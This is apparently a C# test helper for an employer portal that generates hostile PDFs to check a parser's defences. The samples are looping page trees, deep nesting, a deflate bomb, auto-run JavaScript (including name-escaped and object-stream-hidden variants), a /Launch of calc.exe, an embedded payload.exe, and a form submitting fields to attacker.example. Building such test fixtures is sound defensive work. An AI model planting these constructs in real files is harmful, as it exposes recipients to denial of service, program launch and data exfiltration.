using System.IO.Compression;
using System.Text;

namespace EmployerPortal.Tests.Pdf;

/// <summary>
/// Hostile PDFs built in code, each small on disk: the attacks of issue 13 (page trees that loop, nesting 100,000 deep,
/// a deflate bomb, active content, a huge page count). Linked into the functional tests too.
/// </summary>
public static class HostilePdfs
{
    private const string Page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";

    /// <summary>A /Pages node whose /Kids contains itself.</summary>
    public static byte[] SelfReferencingKids() => Build(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
        Page);

    /// <summary>Two /Pages nodes, each the other's kid.</summary>
    public static byte[] PageTreeLoop() => Build(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        Page,
        "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>");

    /// <summary>An array nested 100,000 deep in a page.</summary>
    public static byte[] DeeplyNestedArray(int depth = 100_000) => Build(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Junk {new string('[', depth)}{new string(']', depth)} >>");

    /// <summary>A page content stream of a few hundred KB that inflates to <paramref name="inflatedMegabytes"/> MB of zeros.</summary>
    public static byte[] DeflateBomb(int inflatedMegabytes = 256)
    {
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Optimal, leaveOpen: true))
        {
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < inflatedMegabytes; i++)
            {
                zlib.Write(zeros);
            }
        }

        var data = compressed.ToArray();
        return Build(
            Ascii("<< /Type /Catalog /Pages 2 0 R >>"),
            Ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
            Ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"),
            [.. Ascii($"<< /Length {data.Length} /Filter /FlateDecode >>\nstream\n"), .. data, .. Ascii("\nendstream")]);
    }

    /// <summary>JavaScript run when the document opens.</summary>
    public static byte[] OpenActionJavaScript() => Build(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        Page);

    /// <summary>The same, its names spelled with #xx escapes (/J#53 is /JS).</summary>
    public static byte[] EscapedJavaScriptName() => Build(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /#4Aava#53cript /J#53 (app.alert\\(1\\)) >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        Page);

    /// <summary>A /Launch action that starts a program when the document opens.</summary>
    public static byte[] LaunchAction() => Build(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        Page);

    /// <summary>An attachment in the /EmbeddedFiles name tree.</summary>
    public static byte[] EmbeddedFiles() => Build(
        Ascii("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.exe) 4 0 R] >> >> >>"),
        Ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        Ascii(Page),
        Ascii("<< /Type /Filespec /F (payload.exe) /EF << /F 5 0 R >> >>"),
        Ascii("<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"));

    /// <summary>A form whose button submits its fields to a remote address.</summary>
    public static byte[] SubmitForm() => Build(
        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
        "<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 100 20] /A << /S /SubmitForm /F (https://attacker.example/collect) >> >>");

    /// <summary>JavaScript packed in a compressed object stream, where a scan of the file's plain text cannot see it.</summary>
    public static byte[] JavaScriptInObjectStream()
    {
        const string packed = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
        var header = "5 0 ";
        var body = Ascii(header + packed);
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(body);
        }

        var data = compressed.ToArray();
        return Build(
            Ascii("<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"),
            Ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
            Ascii(Page),
            [.. Ascii($"<< /Type /ObjStm /N 1 /First {header.Length} /Length {data.Length} /Filter /FlateDecode >>\nstream\n"), .. data, .. Ascii("\nendstream")]);
    }

    /// <summary>A valid document of <paramref name="pages"/> blank pages (10,000 by default), a few hundred KB.</summary>
    public static byte[] ManyPages(int pages = 10_000)
    {
        var kids = string.Join(' ', Enumerable.Range(3, pages).Select(n => $"{n} 0 R"));
        return Build([
            "<< /Type /Catalog /Pages 2 0 R >>",
            $"<< /Type /Pages /Kids [{kids}] /Count {pages} >>",
            .. Enumerable.Repeat(Page, pages),
        ]);
    }

    /// <summary>A PDF of the given objects (numbered from 1, the first being the catalog) with a correct xref table.</summary>
    public static byte[] Build(params string[] objects) => Build([.. objects.Select(Ascii)]);

    public static byte[] Build(params byte[][] objects)
    {
        using var pdf = new MemoryStream();
        Write(pdf, "%PDF-1.7\n%\u00E2\u00E3\u00CF\u00D3\n");
        var offsets = new List<long>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(pdf.Position);
            Write(pdf, $"{i + 1} 0 obj\n");
            pdf.Write(objects[i]);
            Write(pdf, "\nendobj\n");
        }

        var xref = pdf.Position;
        var table = new StringBuilder($"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            table.Append($"{offset:D10} 00000 n \n");
        }

        Write(pdf, table.ToString());
        Write(pdf, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return pdf.ToArray();
    }

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    private static void Write(Stream stream, string text) => stream.Write(Ascii(text));
}
